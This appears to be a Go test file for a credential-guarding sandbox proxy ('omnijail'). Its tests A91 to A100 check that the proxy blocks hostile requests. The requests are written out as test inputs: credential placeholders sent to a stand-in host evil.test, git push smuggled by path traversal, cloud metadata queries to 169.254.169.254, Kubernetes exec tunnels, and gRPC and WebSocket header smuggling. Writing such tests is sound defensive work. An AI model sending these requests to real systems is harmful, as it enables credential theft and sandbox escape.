package mitm

import (
	"bufio"
	"encoding/binary"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/omnijail/omnijail/internal/audit"
)

// The attacks A91 to A100: protocols with traps of their own. Each ends with the
// lab's oracle.

// TestA91_GitPushNeedsItsRule: to fetch is no right to push, whatever the path or
// the client claims to be, and a client that is git hears it at its first request.
func TestA91_GitPushNeedsItsRule(t *testing.T) {
	l := newLab(t, labOptions{config: withRules(mustRules(t, "GET good.test/o/r.git/**", "POST good.test/o/r.git/git-upload-pack", "* evil.test"))})
	pack := func(service string, more ...string) string {
		return send("POST", "/o/r.git/"+service, append(more, "Content-Length: 4")...) + "0000"
	}
	l.each(t, []try{
		{"fetch", pack("git-upload-pack"), 200, "", ""},
		{"push", pack("git-receive-pack"), 403, audit.CodeNoRule, ""},
		{"push, coded", pack("git-receive-pack", "Content-Encoding: gzip"), 403, audit.CodeNoRule, ""},
		{"push by a second reading", pack("git-upload-pack/../git-receive-pack"), 400, audit.CodeBadRequest, ""},
		{"push by an escape", pack("git-upload-pack%2f..%2fgit-receive-pack"), 400, audit.CodeBadRequest, ""},
		{"push as a fetch", pack("git-upload-pack", "X-HTTP-Method-Override: PUT"), 403, audit.CodeMethod, ""},
		{"announced", send("GET", "/o/r.git/info/refs?service=git-receive-pack", "User-Agent: git/2.39"), 403, audit.CodeNoRule, ""},
		{"another repository", send("GET", "/o/other.git/info/refs?service=git-upload-pack"), 403, audit.CodeNoRule, ""},
	}, "POST /o/r.git/git-upload-pack")
}

// TestA92_LFSGoesWhereRulesLead: the batch names another host and a header for it.
// The jail may follow by a rule of its own; the host's credential does not go along.
func TestA92_LFSGoesWhereRulesLead(t *testing.T) {
	l := newLab(t, labOptions{evilHeard: true, answer: answersOf("application/vnd.git-lfs+json", map[string]string{
		"/o/r.git/info/lfs/objects/batch": `{"objects":[{"actions":{"download":{"href":"https://evil.test/o","header":{"Authorization":"Basic bWludGVk"}},"verify":{"href":"https://other.test/v"}}}]}`,
	})})
	if resp, body := l.ask(send("POST", "/o/r.git/info/lfs/objects/batch", "Content-Length: 0")); resp.StatusCode != 200 || !strings.Contains(body, "bWludGVk") {
		t.Fatalf("%d %s", resp.StatusCode, body)
	}
	l.audit.await(t, ended, func(e Event) bool { return e.Code == audit.CodeMintedToken })
	c := l.to("evil.test")
	defer c.Close()
	if resp, _ := l.say(c, sendTo("evil.test", "GET", "/o", "Authorization: Basic bWludGVk")); resp.StatusCode != 200 {
		t.Errorf("what a rule allows: %d", resp.StatusCode)
	}
	if text := l.evil.text(); strings.Contains(text, secretValue) || !strings.Contains(text, "bWludGVk") {
		t.Errorf("evil.test was told %q", text)
	}
	if resp, _ := l.visit("other.test:443"); resp.StatusCode != 403 {
		t.Errorf("a host without a rule: %d", resp.StatusCode)
	}
}

// TestA93_ARealmIsNotFollowed: a registry's challenge names a host of its choice. It
// gets what the jail's rules allow and no credential, and neither does a blob's host.
func TestA93_ARealmIsNotFollowed(t *testing.T) {
	l := newLab(t, labOptions{answer: func(w http.ResponseWriter, req *http.Request) {
		if strings.Contains(req.URL.Path, "/blobs/") {
			http.Redirect(w, req, "https://evil.test/blob", http.StatusTemporaryRedirect)
			return
		}
		w.Header().Set("Www-Authenticate", `Bearer realm="https://realm.test/token",service="good.test",scope="repository:o/r:pull,push"`)
		w.WriteHeader(http.StatusUnauthorized)
	}})
	if resp, _ := l.ask(send("GET", "/v2/o/r/manifests/latest")); resp.StatusCode != 401 || !strings.Contains(resp.Header.Get("Www-Authenticate"), "realm.test") {
		t.Errorf("%d %v", resp.StatusCode, resp.Header)
	}
	if resp, _ := l.visit("realm.test:443"); resp.StatusCode != 403 || resp.Header.Get("X-Omnijail-Code") != string(audit.CodeNoRule) {
		t.Errorf("the realm's host: %d", resp.StatusCode)
	}
	if resp, _ := l.ask(send("GET", "/v2/o/r/blobs/sha256:0")); resp.StatusCode != 307 {
		t.Errorf("a blob elsewhere: %d", resp.StatusCode)
	}
	if got := l.good.requestLines(); !slices.Equal(got, []string{"GET /v2/o/r/manifests/latest", "GET /v2/o/r/blobs/sha256:0"}) {
		t.Errorf("good.test saw %q", got)
	}
}

// TestA94_PackagesFromOtherHosts: an index names archives elsewhere, and an address
// may carry the placeholder as its user, which clients make Basic of.
func TestA94_PackagesFromOtherHosts(t *testing.T) {
	l := newLab(t, labOptions{})
	ph := l.placeholder()
	l.each(t, []try{
		{"pip's user at another host", sendTo("evil.test", "GET", "/simple/", "Authorization: Basic "+b64(ph+":")), 403, audit.CodePlaceholder, "evil.test"},
		{"pip's password at another host", sendTo("evil.test", "GET", "/simple/", "Authorization: Basic "+b64("__token__:"+ph)), 403, audit.CodePlaceholder, "evil.test"},
		{"npm's token at another host", sendTo("evil.test", "GET", "/x/-/x-1.0.0.tgz", "Authorization: Bearer "+ph), 403, audit.CodePlaceholder, "evil.test"},
		{"cargo's, without a scheme", sendTo("evil.test", "GET", "/config.json", "Authorization: "+ph), 403, audit.CodePlaceholder, "evil.test"},
		{"an address with a user", send("GET", "https://"+ph+"@good.test/simple/"), 400, audit.CodeBadRequest, ""},
		{"npm's user in a body of login", send("PUT", "/-/user/org.couchdb.user:"+ph, "Content-Length: 0"), 403, audit.CodePlaceholder, ""},
	})
}

// TestA95_SignaturesAreNotMade: nothing is signed for a jail in this build. A
// placeholder that a client has signed with goes nowhere, in no form of a signature.
func TestA95_SignaturesAreNotMade(t *testing.T) {
	l := newLab(t, labOptions{})
	ph := l.placeholder()
	scope := "/20260101/us-east-1/s3/aws4_request"
	var tries []try
	for _, host := range []string{"good.test", "evil.test"} {
		for name, raw := range map[string]string{
			"header":    sendTo(host, "GET", "/", "Authorization: AWS4-HMAC-SHA256 Credential="+ph+scope+", SignedHeaders=host, Signature=00"),
			"SigV4A":    sendTo(host, "GET", "/", "Authorization: AWS4-ECDSA-P256-SHA256 Credential="+ph+"/20260101/s3/aws4_request, Signature=00"),
			"presigned": sendTo(host, "GET", "/?X-Amz-Credential="+ph+strings.ReplaceAll(scope, "/", "%2F")+"&X-Amz-Signature=00"),
			"session":   sendTo(host, "GET", "/", "X-Amz-Security-Token: "+ph),
			"Azure":     sendTo(host, "GET", "/", "Authorization: SharedKey "+ph+":00"),
		} {
			tries = append(tries, try{host + " " + name, raw, 403, audit.CodePlaceholder, host})
		}
	}
	l.each(t, tries)
	if n := l.good.accepted(); n > 0 {
		t.Errorf("%d connections to good.test", n)
	}
}

// TestA96_NoMetadataForAJail: no service of a cloud is emulated, and none is reached,
// by whatever address, header and opt-in, though a rule names it.
func TestA96_NoMetadataForAJail(t *testing.T) {
	var rules []string
	for _, a := range []string{"169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "[fd00:ec2::254]"} {
		rules = append(rules, "* http://"+a)
	}
	l := newLab(t, labOptions{rules: rules, up: everything})
	for _, rule := range rules {
		authority := strings.TrimPrefix(rule, "* http://") + ":80"
		c, err := net.Dial("tcp", l.open(authority))
		if err != nil {
			t.Fatal(err)
		}
		resp, body := l.say(tappedConn{c, l.heard}, sendTo(strings.TrimSuffix(authority, ":80"), "GET", "/latest/meta-data/", "Metadata-Flavor: Google", "Metadata: true"))
		if resp.StatusCode != 403 || resp.Header.Get("X-Omnijail-Code") != string(audit.CodeMetadata) {
			t.Errorf("%s: %d %s", authority, resp.StatusCode, body)
		}
		c.Close()
	}
}

// TestA97_TunnelsOfKubernetes: exec, attach and port-forward turn a request into a
// tunnel. None is opened without a word for it, and what mints a token needs a rule
// like everything.
func TestA97_TunnelsOfKubernetes(t *testing.T) {
	l := newLab(t, labOptions{config: withRules(mustRules(t, "GET,POST good.test/api/v1/namespaces/a/pods/**", "GET good.test/api/v1/**", "* evil.test"))})
	const pod = "/api/v1/namespaces/a/pods/p/"
	var tries []try
	for _, sub := range []string{"exec?command=sh", "attach", "portforward"} {
		for _, protocol := range []string{"SPDY/3.1", "websocket, SPDY/3.1", "tcp"} {
			tries = append(tries, try{sub + " by " + protocol, send("POST", pod+sub, "Connection: Upgrade", "Upgrade: "+protocol, "Content-Length: 0"), 403, audit.CodeUpgrade, ""})
		}
		socket := strings.Replace(handshake("good.test", "Sec-WebSocket-Protocol: v5.channel.k8s.io"), "/ws", pod+sub, 1)
		tries = append(tries, try{sub + " by websocket", socket, 403, audit.CodeUpgrade, ""})
	}
	tries = append(tries,
		try{"a token of another account", send("POST", "/api/v1/namespaces/a/serviceaccounts/x/token", "Content-Length: 0"), 403, audit.CodeNoRule, ""},
		try{"a node's proxy", send("CONNECT", "/api/v1/nodes/n/proxy"), 405, audit.CodeMethod, ""},
	)
	l.each(t, tries)
	h := l.dialHTTP2(l.addr, "good.test")
	h.request(1, false, ":method", "CONNECT", ":protocol", "websocket", ":scheme", "https", ":authority", "good.test", ":path", pod+"exec")
	if o := h.await(1); o.status != "405" && o.reset == 0 {
		t.Errorf("extended CONNECT: %+v", o)
	}
}

// grpcMessage frames one message, coded or not.
func grpcMessage(coded byte, b string) string {
	return string(binary.BigEndian.AppendUint32([]byte{coded}, uint32(len(b)))) + b
}

// TestA98_GRPC: metadata and authority are judged like headers, trailers arrive
// searched, and no message comes coded from a host that knows a secret.
func TestA98_GRPC(t *testing.T) {
	answer := func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Type", "application/grpc")
		if req.URL.Path == "/lab.Echo/Coded" {
			w.Header().Set("Grpc-Encoding", "gzip")
		}
		io.WriteString(w, grpcMessage(0, req.Header.Get("Authorization")+" "+req.Header.Get("Grpc-Accept-Encoding")))
		w.Header().Set(http.TrailerPrefix+"Grpc-Status", "0")
		w.Header().Set(http.TrailerPrefix+"Grpc-Message", req.Header.Get("Authorization"))
	}
	l := newLab(t, labOptions{http2: true, answer: answer})
	c := l.http2Client(l.addr)
	call := func(method string) (*http.Response, string) {
		t.Helper()
		req, _ := http.NewRequest("POST", "https://good.test/lab.Echo/"+method, strings.NewReader(grpcMessage(0, "hi")))
		req.Header.Set("Content-Type", "application/grpc")
		req.Header.Set("Te", "trailers")
		req.Header.Set("Grpc-Accept-Encoding", "gzip, identity")
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		return resp, string(body)
	}
	masked := "Bearer " + strings.Repeat("*", len(secretValue))
	if resp, body := call("Plain"); body != grpcMessage(0, masked+" identity") || resp.Trailer.Get("Grpc-Status") != "0" || resp.Trailer.Get("Grpc-Message") != masked {
		t.Errorf("%d %q %v", resp.StatusCode, body, resp.Trailer)
	}
	if resp, body := call("Coded"); resp.StatusCode != 502 || !strings.HasSuffix(resp.Header.Get("X-Omnijail-Reason"), "coded_messages") {
		t.Errorf("coded messages: %d %q", resp.StatusCode, body)
	}
	h := l.dialHTTP2(l.addr, "good.test")
	as := func(authority string, f []string) []string { f[5] = authority; return f }
	h.request(1, true, as("evil.test", post("/lab.Echo/Plain"))...)
	if o := h.await(1); o.status != "421" {
		t.Errorf("another authority: %+v", o)
	}
	h.request(3, true, as("good.test", post("/lab.Echo/Plain", "x-token-bin", b64(l.placeholder())))...)
	if o := h.await(3); o.status != "403" || o.code != string(audit.CodePlaceholder) {
		t.Errorf("a placeholder as metadata: %+v", o)
	}
}

// TestA99_WebSocketsOfACredential: the credential is on the handshake alone, no
// compression is offered with it, what the server tells is masked, and a handshake
// with a placeholder anywhere else is refused.
func TestA99_WebSocketsOfACredential(t *testing.T) {
	tell := func(c net.Conn, _ *bufio.ReadWriter) {
		io.WriteString(c, string([]byte{0x81, byte(len(secretValue))})+secretValue)
	}
	l := newWebSocketLab(t, accepts(tell))
	ph := l.placeholder()
	l.each(t, []try{
		{"as a subprotocol", handshake("good.test", "Sec-WebSocket-Protocol: "+ph), 403, audit.CodePlaceholder, ""},
		{"as the key", strings.Replace(handshake("good.test"), wsKey, ph, 1), 400, audit.CodeBadRequest, ""},
		{"as an extension", handshake("good.test", "Sec-WebSocket-Extensions: x; t="+ph), 403, audit.CodePlaceholder, ""},
		{"in the query", strings.Replace(handshake("good.test"), "/ws", "/ws?t="+ph, 1), 403, audit.CodePlaceholder, ""},
		{"at another host", handshake("evil.test", "Authorization: Bearer "+ph), 403, audit.CodePlaceholder, "evil.test"},
	})
	c, br := l.join("Sec-WebSocket-Extensions: permessage-deflate", "Authorization: Bearer "+ph)
	defer c.Close()
	if got, _ := io.ReadAll(br); string(got) != string([]byte{0x81, byte(len(secretValue))})+strings.Repeat("*", len(secretValue)) {
		t.Errorf("the jail got %q", got)
	}
	if h := l.good.all()[0].Header; h.Get("Authorization") != "Bearer "+secretValue || h.Get("Sec-WebSocket-Extensions") != "" {
		t.Errorf("good.test saw %v", h)
	}
}

// TestA100_NoSSH: the port is not carried without a tcp:// rule, whoever speaks
// first, and the client is told. There is no agent and no server of ours to ask for
// a shell, a subsystem or a forwarded port.
func TestA100_NoSSH(t *testing.T) {
	l := newLab(t, labOptions{})
	for _, authority := range []string{"good.test:22", "evil.test:22"} {
		c, err := net.Dial("tcp", l.open(authority))
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(c, "SSH-2.0-OpenSSH_9.2\r\n")
		c.(*net.TCPConn).CloseWrite()
		said, _ := io.ReadAll(tappedConn{c, l.heard})
		if !strings.HasPrefix(string(said), "SSH-2.0-omnijail\r\n") || !strings.Contains(string(said), "is not carried") {
			t.Errorf("%s: %q", authority, said)
		}
		c.Close()
	}
	if n := l.good.accepted(); n > 0 {
		t.Errorf("%d connections to good.test", n)
	}
}
